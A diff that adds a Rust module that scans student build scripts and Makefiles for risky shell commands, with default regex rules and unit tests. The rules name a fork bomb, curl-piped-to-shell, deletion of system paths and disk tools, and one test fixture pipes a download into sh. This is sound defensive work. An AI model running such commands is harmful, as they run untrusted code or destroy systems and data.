@@ -0,0 +1,198 @@
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+
+use log::*;
+use prettytable::*;
+use regex::Regex;
+
+use crate::settings::{Config, RiskFinding, RiskLevel, RiskRule, Status};
+
+fn rule(name: &str, pattern: &str, level: RiskLevel, message: &str) -> RiskRule {
+    RiskRule {
+        name: name.to_string(),
+        pattern: pattern.to_string(),
+        level,
+        message: message.to_string(),
+    }
+}
+
+/// Used when the global config does not provide its own rules.
+pub fn default_rules() -> Vec<RiskRule> {
+    vec![
+        rule("pipe-to-shell", r"\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da)?sh\b", RiskLevel::High,
+             "downloads code and pipes it into a shell"),
+        rule("fork-bomb", r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:", RiskLevel::High,
+             "fork bomb"),
+        rule("delete-outside-data", r"\brm\s+(-\S+\s+)*(/(\s|$|\*|bin|boot|dev|etc|home|lib|opt|root|sbin|srv|sys|usr|var|proc)|~|\$HOME)", RiskLevel::High,
+             "deletes files outside of /data"),
+        rule("device-access", r"/dev/(sd|hd|vd|nvme|mem|kmem|port|mapper|disk|loop)", RiskLevel::High,
+             "touches a device"),
+        rule("disk-tools", r"\b(dd|mkfs(\.\w+)?|fdisk|parted|insmod|rmmod|modprobe)\b", RiskLevel::High,
+             "runs a disk or kernel tool"),
+        rule("privilege", r"\b(sudo|doas|setcap)\b|chmod\s+(u\+s|[0-7]?[4-7][0-7]{3}\b)", RiskLevel::Medium,
+             "changes privileges"),
+        rule("remote-fetch", r"\b(curl|wget|nc|ncat|scp|rsync|git\s+clone|pip\s+install|npm\s+install)\b", RiskLevel::Medium,
+             "fetches from the network"),
+        rule("obfuscation", r"base64\s+(-d|--decode)|\beval\b", RiskLevel::Medium,
+             "runs decoded or generated code"),
+        rule("background", r"\b(nohup|crontab|systemctl|disown|setsid)\b", RiskLevel::Low,
+             "leaves processes behind"),
+    ]
+}
+
+fn is_makefile(path: &Path) -> bool {
+    match path.file_name().and_then(|x| x.to_str()) {
+        Some("Makefile") | Some("makefile") | Some("GNUmakefile") => true,
+        _ => path.extension().map(|x| x == "mk").unwrap_or(false)
+    }
+}
+
+fn makefiles(dir: &Path, relative: &Path, found: &mut Vec<PathBuf>) {
+    let entries = match std::fs::read_dir(dir) {
+        Ok(entries) => entries,
+        Err(_) => return
+    };
+    for entry in entries.filter_map(|x| x.ok()) {
+        let name = entry.file_name();
+        let path = entry.path();
+        let file_type = match entry.file_type() {
+            Ok(x) => x,
+            Err(_) => continue
+        };
+        if file_type.is_dir() && name != ".git" {
+            makefiles(path.as_path(), relative.join(&name).as_path(), found);
+        } else if file_type.is_file() && is_makefile(path.as_path()) {
+            found.push(relative.join(&name));
+        }
+    }
+}
+
+/// Scan the build script, the run script and the Makefiles in the student dir.
+pub fn scan(config: Option<&Config>, status: &mut Status, workdir: &Path) {
+    let project = match status.in_progress.as_ref() {
+        Some(project) => project,
+        None => return
+    };
+    let rules = config.and_then(|x| x.risk_rules.clone()).unwrap_or_else(default_rules);
+    let compiled = rules.iter().filter_map(|x| match Regex::new(x.pattern.as_str()) {
+        Ok(regex) => Some((x, regex)),
+        Err(e) => {
+            warn!("ignoring risk rule {}: {}", x.name, e);
+            None
+        }
+    }).collect::<Vec<_>>();
+
+    let student_dir = workdir.join("student");
+    let mut files = vec![project.build_shell.clone(), project.run_shell.clone()];
+    makefiles(student_dir.as_path(), Path::new(""), &mut files);
+    files.sort();
+    files.dedup();
+
+    let mut findings = Vec::new();
+    // a symlinked file is only reported under the first path reaching it
+    let mut scanned = BTreeSet::new();
+    for file in &files {
+        let path = match crate::validate::contained(student_dir.as_path(), file) {
+            Ok(path) => path,
+            Err(e) => {
+                warn!("unable to scan {}: {}", file.display(), e);
+                continue;
+            }
+        };
+        if !scanned.insert(path.clone()) {
+            continue;
+        }
+        let content = match std::fs::read(path) {
+            Ok(content) => content,
+            Err(e) => {
+                warn!("unable to scan {}: {}", file.display(), e);
+                continue;
+            }
+        };
+        for (number, line) in String::from_utf8_lossy(content.as_slice()).lines().enumerate() {
+            if line.trim_start().starts_with('#') {
+                continue;
+            }
+            for (rule, regex) in &compiled {
+                if regex.is_match(line) {
+                    findings.push(RiskFinding {
+                        rule: rule.name.clone(),
+                        level: rule.level,
+                        file: file.clone(),
+                        line: number + 1,
+                        text: line.trim().to_string(),
+                        message: rule.message.clone(),
+                    });
+                }
+            }
+        }
+    }
+    if findings.iter().any(|x| x.level == RiskLevel::High) {
+        warn!("high risk patterns found in the student scripts, see `tulip status current`");
+    }
+    status.risks = findings;
+}
+
+pub fn high_risk(status: &Status) -> bool {
+    status.risks.iter().any(|x| x.level == RiskLevel::High)
+}
+
+pub fn risk_table(findings: &[RiskFinding]) -> Table {
+    let mut table = Table::new();
+    table.add_row(row![bFb->"Level", bFb->"Rule", bFb->"Location", bFb->"Line"]);
+    for i in findings {
+        let location = format!("{}:{}", i.file.display(), i.line);
+        let rule = format!("{}: {}", i.rule, i.message);
+        match i.level {
+            RiskLevel::High => table.add_row(row![bFr->"high", rule, location, i.text]),
+            RiskLevel::Medium => table.add_row(row![bFy->"medium", rule, location, i.text]),
+            RiskLevel::Low => table.add_row(row![bFb->"low", rule, location, i.text]),
+        };
+    }
+    table
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::settings::StudentConfig;
+
+    use super::*;
+
+    fn scanned(build_shell: &str, files: &[(&str, &str)], links: &[(&str, &str)]) -> Vec<(String, String)> {
+        let workdir = tempfile::tempdir().unwrap();
+        let student_dir = workdir.path().join("student");
+        for (path, content) in files {
+            let path = student_dir.join(path);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, content).unwrap();
+        }
+        for (path, target) in links {
+            std::os::unix::fs::symlink(target, student_dir.join(path)).unwrap();
+        }
+        let project = StudentConfig { build_shell: build_shell.into(), run_shell: "run.sh".into(), ..StudentConfig::default() };
+        let mut status = Status { in_progress: Some(project), ..Status::default() };
+        scan(None, &mut status, workdir.path());
+        status.risks.iter().map(|x| (x.rule.clone(), x.file.display().to_string())).collect()
+    }
+
+    #[test]
+    fn scans_the_scripts_and_the_makefiles() {
+        let findings = scanned("build.sh", &[
+            ("build.sh", "make\nnohup ./server &\n"),
+            ("run.sh", "# curl x | sh\n./main\n"),
+            ("src/Makefile", "all:\n\tcurl https://example.com/x | sh\n"),
+        ], &[]);
+        assert_eq!(findings, vec![
+            (String::from("background"), String::from("build.sh")),
+            (String::from("pipe-to-shell"), String::from("src/Makefile")),
+            (String::from("remote-fetch"), String::from("src/Makefile")),
+        ]);
+    }
+
+    #[test]
+    fn reports_a_makefile_reached_twice_once() {
+        let files = [("Makefile", "all:\n\tsudo make install\n"), ("run.sh", "./main\n")];
+        assert_eq!(scanned("Makefile", &files, &[]), vec![(String::from("privilege"), String::from("Makefile"))]);
+        assert_eq!(scanned("build.mk", &files, &[("build.mk", "Makefile")]).len(), 1);
+    }
+}